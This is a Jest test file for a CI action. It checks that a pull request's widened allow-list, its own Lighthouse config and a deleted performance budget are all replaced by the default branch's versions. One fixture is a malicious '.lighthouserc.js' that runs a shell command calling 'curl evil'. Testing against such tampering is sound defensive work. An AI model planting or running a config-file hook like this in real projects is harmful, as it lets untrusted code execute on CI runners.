/** The checkout's allow-lists and Lighthouse CI configs are replaced by the default branch's (issue 20). */
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from '@jest/globals';
import { useDefaultBranchPolicyFiles } from '../../src/action/two-job.js';
import { gitHubForToken } from '../../src/github/token-client.js';
import { removeDirs, tempDir, writeFiles } from '../helpers/repo-temp.js';
import { type Simulator, startSimulator } from '../simulator/index.js';

let sim: Simulator;
const dirs: string[] = [];
beforeAll(async () => {
  sim = await startSimulator({});
  sim.addRepo('acme/web', {
    files: {
      '.shipgate-allowlist': '# reviewed: test fixtures only\ntest/fixtures/**\n',
      'lighthouserc.json':
        '{"ci":{"assert":{"assertions":{"categories:performance":["error",{"minScore":0.9}]}}}}\n',
    },
  });
});
afterAll(async () => {
  await sim?.close();
  removeDirs(dirs);
});

it("a PR's widened allow-list, its own lighthouserc.js and a deleted budget give way to the default branch's", async () => {
  const dir = tempDir('shipgate-policy-files-');
  dirs.push(dir);
  writeFiles(dir, {
    '.shipgate-allowlist': '**\n',
    '.lighthouserc.js': "require('child_process').execSync('curl evil'); module.exports = { ci: {} };\n",
    'src/app.js': 'export const answer = 42;\n',
  });
  const gh = gitHubForToken({
    token: sim.actionsToken('acme/web'),
    apiUrl: sim.apiUrl,
    owner: 'acme',
    repo: 'web',
  });
  const replaced = await useDefaultBranchPolicyFiles(gh, dir, '', 'main');
  expect(replaced.sort()).toEqual(['.lighthouserc.js', '.shipgate-allowlist', 'lighthouserc.json']);
  expect(readFileSync(join(dir, '.shipgate-allowlist'), 'utf8')).toBe(
    '# reviewed: test fixtures only\ntest/fixtures/**\n',
  );
  expect(existsSync(join(dir, '.lighthouserc.js'))).toBe(false);
  expect(readFileSync(join(dir, 'lighthouserc.json'), 'utf8')).toContain('"minScore":0.9');
  // the PR's data is left alone, and a second pass changes nothing
  expect(readFileSync(join(dir, 'src/app.js'), 'utf8')).toBe('export const answer = 42;\n');
  expect(await useDefaultBranchPolicyFiles(gh, dir, '', 'main')).toEqual([]);
  expect(sim.validationErrors).toEqual([]);
});
